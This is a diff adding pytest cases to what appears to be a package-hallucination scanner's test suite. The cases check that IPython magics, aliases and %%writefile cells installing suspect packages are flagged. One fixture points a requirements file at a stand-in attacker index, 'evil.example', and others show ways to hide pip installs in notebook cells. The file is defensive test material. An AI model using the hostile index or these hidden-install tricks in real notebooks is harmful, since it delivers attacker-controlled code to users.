@@ -129,3 +129,59 @@ def test_the_import_a_python_kernel_runs_is_found(
         if code is not None:
             found |= {item.module for item in new_imports(code, set(range(1, code.count("\n") + 2)), []).imports}
     assert "fakepkg_zz" in found
+
+
+@pytest.mark.parametrize(
+    ("cells", "code"),
+    [
+        (["%%!\npip install huggingface-cli"], "HC031"),  # `%%!` is `%%sx`
+        (["%%sx\npip install huggingface-cli"], "HC031"),
+        (["%%script bash\npip install huggingface-cli"], "HC031"),
+        (["%%capture\n%pip install huggingface-cli"], "HC031"),
+        (["%uv pip install huggingface-cli"], "HC031"),
+        (["%alias p pip\n%p install huggingface-cli"], "HC031"),
+        (["%alias p pip", "%p install huggingface-cli"], "HC031"),  # aliases live in the kernel, any cell
+        (["%alias p pip install %s\nx = %p huggingface-cli"], "HC031"),
+        (["%alias p pip %l\n%p install huggingface-cli"], "HC031"),
+        (["pip install huggingface-cli"], "HC031"),  # automagic: a one-line cell is `%pip install ...`
+        (["%alias p pip", "p install huggingface-cli"], "HC031"),
+        (["%load_ext fakepkg_zz"], "HC001"),  # imports the module by its name
+        (["%reload_ext fakepkg_zz.ext"], "HC001"),
+        (["load_ext fakepkg_zz"], "HC001"),
+        (["%load_ext autoreload\n%aimport fakepkg_zz, -os"], "HC001"),
+        (["%run -m fakepkg_zz"], "HC001"),
+        (["%%writefile requirements.txt\nrequests\nhuggingface-cli"], "HC031"),
+        (["%%writefile -a 'requirements-dev.txt'\nhuggingface-cli"], "HC031"),
+        (["%%file setup.sh\npip install huggingface-cli"], "HC031"),
+        (["%%writefile requirements.txt\n--index-url https://evil.example/simple\nrequests"], "HC040"),
+        (["%%writefile pyproject.toml\n[project]\ndependencies = ['x']"], "HC042"),
+    ],
+)
+def test_magics_that_run_shell_install_or_import(repo: Repo, run: Any, cells: list[str], code: str) -> None:
+    # Attack B5: IPython runs each of these (IPython/core/magics/osm.py, alias.py, extension.py, automagic in
+    # prefilter.py for one-line cells); each installs or imports the name it shows.
+    assert code in _codes(repo, run, json.dumps(_document(cells)))
+
+
+@pytest.mark.parametrize(
+    "cells",
+    [
+        ["%load_ext autoreload\n%autoreload 2"],  # IPython's own extension
+        ["%%writefile notes.txt\nhuggingface-cli"],  # not a file anything installs from
+        ["%%writefile requirements.txt\nrequests"],  # a popular name
+        ["pip = 3"], ["run(1)"], ["%alias p pip\nprint(1)"],
+    ],
+)
+def test_magics_that_install_or_import_nothing_new(repo: Repo, run: Any, cells: list[str]) -> None:
+    assert not {"HC001", "HC031", "HC040", "HC042"} & set(_codes(repo, run, json.dumps(_document(cells))))
+
+
+def test_alias_commands_are_filled_as_ipython_fills_them() -> None:
+    from hallucheck.sources.notebooks import alias_command
+
+    # IPython/core/alias.py: `%l` takes the whole line, each `%s` the next word, the other words follow.
+    assert alias_command("pip", "install x y") == "pip install x y"
+    assert alias_command("pip install %s", "x y") == "pip install x y"
+    assert alias_command("echo %s and %s", "a b c") == "echo a and b c"
+    assert alias_command("pip %l --user", "install x") == "pip install x --user"
+    assert alias_command("printf %%s pip", "x") == "printf %s pip x"
